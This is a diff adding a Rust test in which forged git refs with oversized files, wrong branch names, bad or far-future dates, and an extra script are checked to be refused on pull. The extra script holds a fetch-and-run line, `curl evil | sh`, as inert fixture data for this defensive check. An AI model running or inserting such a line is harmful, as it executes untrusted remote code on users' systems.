@@ -898,3 +898,170 @@ fn recording_never_takes_packed_refs_lock_and_a_failed_record_is_said() {
         );
     }
 }
+
+/// A forged version's tree: (name, bytes).
+type Forged<'a> = Vec<(&'a str, Vec<u8>)>;
+
+/// A version made by hand in `bare` with git's plumbing, as anyone who can push could: a tree of
+/// `entries` (name, bytes), a commit, `refs/handoffs/<branch>` pointed at it.
+fn forge(env: &TestEnv, bare: &Path, branch: &str, entries: &[(&str, Vec<u8>)]) {
+    let mut tree = String::new();
+    for (name, bytes) in entries {
+        let file = env.write(&format!("forged-{name}"), bytes);
+        let id = env.git(bare, &["hash-object", "-w", &file.to_string_lossy()]);
+        tree.push_str(&format!("100644 blob {id}\t{name}\n"));
+    }
+    let listing = env.write("forged-tree", tree);
+    let tree_id = {
+        let out = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("git mktree < '{}'", listing.display()))
+            .current_dir(bare)
+            .output()
+            .expect("mktree");
+        String::from_utf8_lossy(&out.stdout).trim().to_string()
+    };
+    let commit = env.git(bare, &["commit-tree", &tree_id, "-m", "forged"]);
+    env.git(
+        bare,
+        &["update-ref", &format!("refs/handoffs/{branch}"), &commit],
+    );
+}
+
+/// Issue 21.3–6: what a remote holds is input. A version too large, with anything but
+/// `handoff.md` and `meta` in its tree, declaring another branch, or with a malformed `meta` is
+/// not imported — `pull` names it, exits 1, and still merges every other branch; a date from the
+/// far future (or beyond any calendar) never panics and never outranks the local version.
+#[test]
+fn a_hostile_remote_version_is_refused_and_every_other_branch_still_merges() {
+    let env = TestEnv::new();
+    let bare = remote(&env);
+    let (a, b) = (machine(&env, "a", &bare), machine(&env, "b", &bare));
+    // A good handoff for branch `good`, from machine b.
+    env.git(&b.repo, &["switch", "-q", "-c", "good"]);
+    env.git(&b.repo, &["push", "-q", "origin", "good"]);
+    let good = canonical(&b.repo.to_string_lossy(), "good").replace("status: ", "status: good ");
+    assert_eq!(run(b.hs(&env, &["write"]).write_stdin(good)).code, 0);
+    assert_eq!(run(&mut b.hs(&env, &["push"])).code, 0);
+    env.git(&a.repo, &["fetch", "-q", "origin"]);
+    env.git(&a.repo, &["branch", "-q", "good", "origin/good"]);
+    let good_slot = a.slot(&env, "good");
+
+    let doc = |branch: &str, tag: &str| {
+        canonical("/elsewhere", branch)
+            .replace("status: ", &format!("status: {tag} "))
+            .into_bytes()
+    };
+    let meta = |written: &str, branch: &str| {
+        format!("written-at: {written}\nbranch: {branch}\n").into_bytes()
+    };
+    let big = {
+        let mut d = doc("main", "huge");
+        d.extend(std::iter::repeat_n(b'x', 4_800_000));
+        d
+    };
+    let refused: Vec<(&str, Forged)> = vec![
+        (
+            "over 4 MiB",
+            vec![("handoff.md", big), ("meta", meta("1700000000", "main"))],
+        ),
+        (
+            "an extra tree entry",
+            vec![
+                ("handoff.md", doc("main", "extra")),
+                ("meta", meta("1700000000", "main")),
+                ("run-me.sh", b"curl evil | sh\n".to_vec()),
+            ],
+        ),
+        (
+            "another branch in the document",
+            vec![
+                ("handoff.md", doc("other", "branchy")),
+                ("meta", meta("1700000000", "main")),
+            ],
+        ),
+        (
+            "another branch in meta",
+            vec![
+                ("handoff.md", doc("main", "metabranch")),
+                ("meta", meta("1700000000", "other")),
+            ],
+        ),
+        (
+            "a written-at that is no number",
+            vec![
+                ("handoff.md", doc("main", "garbage")),
+                ("meta", meta("soon", "main")),
+            ],
+        ),
+    ];
+    for (what, entries) in refused {
+        forge(&env, &bare, "main", &entries);
+        let o = run(&mut a.hs(&env, &["pull"]));
+        assert_eq!(o.code, 1, "{what}: {}{}", o.stdout, o.stderr);
+        assert!(o.stdout.contains("not imported"), "{what}: {}", o.stdout);
+        assert!(
+            !a.slot(&env, "main").exists() || !a.slot_text(&env).contains("/elsewhere"),
+            "{what}: imported"
+        );
+        assert!(
+            std::fs::read_to_string(&good_slot).is_ok_and(|t| t.contains("status: good ")),
+            "{what}: the good branch was not merged: {}",
+            o.stdout
+        );
+    }
+
+    // Dates beyond belief: clamped, never a panic, never ahead of the local version.
+    let placeholder = run(&mut a.hs(&env, &["write", "--placeholder"]));
+    assert_eq!(placeholder.code, 0, "{}", placeholder.stderr);
+    for written in ["8210298412799", &i64::MAX.to_string(), "-5"] {
+        forge(
+            &env,
+            &bare,
+            "main",
+            &[
+                ("handoff.md", doc("main", &format!("dated-{written}"))),
+                ("meta", meta(written, "main")),
+            ],
+        );
+        let o = run(&mut a.hs(&env, &["pull"]));
+        assert!(
+            o.code == 0 || o.code == 1,
+            "written-at {written}: {}{}",
+            o.stdout,
+            o.stderr
+        );
+        let again = run(&mut a.hs(&env, &["pull"]));
+        assert!(
+            again.code == 0 || again.code == 1,
+            "written-at {written}, again: {}",
+            again.stderr
+        );
+    }
+    let far = std::fs::metadata(a.slot(&env, "main"))
+        .and_then(|m| m.modified())
+        .expect("slot");
+    assert!(
+        far <= std::time::SystemTime::now() + std::time::Duration::from_secs(600),
+        "a slot dated in the future"
+    );
+
+    // A local version against a remote one dated in 2230: the local one stays in the slot.
+    assert_eq!(a.write(&env, "mine").code, 0);
+    forge(
+        &env,
+        &bare,
+        "main",
+        &[
+            ("handoff.md", doc("main", "from-2230")),
+            ("meta", meta("8210298412", "main")),
+        ],
+    );
+    let o = run(&mut a.hs(&env, &["pull"]));
+    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
+    assert!(
+        a.slot_text(&env).contains("status: mine "),
+        "a future date took the slot: {}",
+        o.stdout
+    );
+}
